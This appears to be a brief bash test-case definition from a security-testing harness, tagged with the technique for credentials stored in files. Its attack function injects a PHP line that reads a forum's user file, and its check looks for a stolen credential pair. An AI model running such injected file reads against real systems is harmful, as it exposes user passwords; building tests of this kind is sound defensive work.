# SPDX-License-Identifier: Apache-2.0 OR MIT
# shellcheck shell=bash disable=SC2034,SC2154
technique=T1552.001
about="the forum's passwords are read"
attack() { inject 'echo file_get_contents("/srv/forum/users");'; }
effect() { grep -q joe:secret "$state/answer"; }
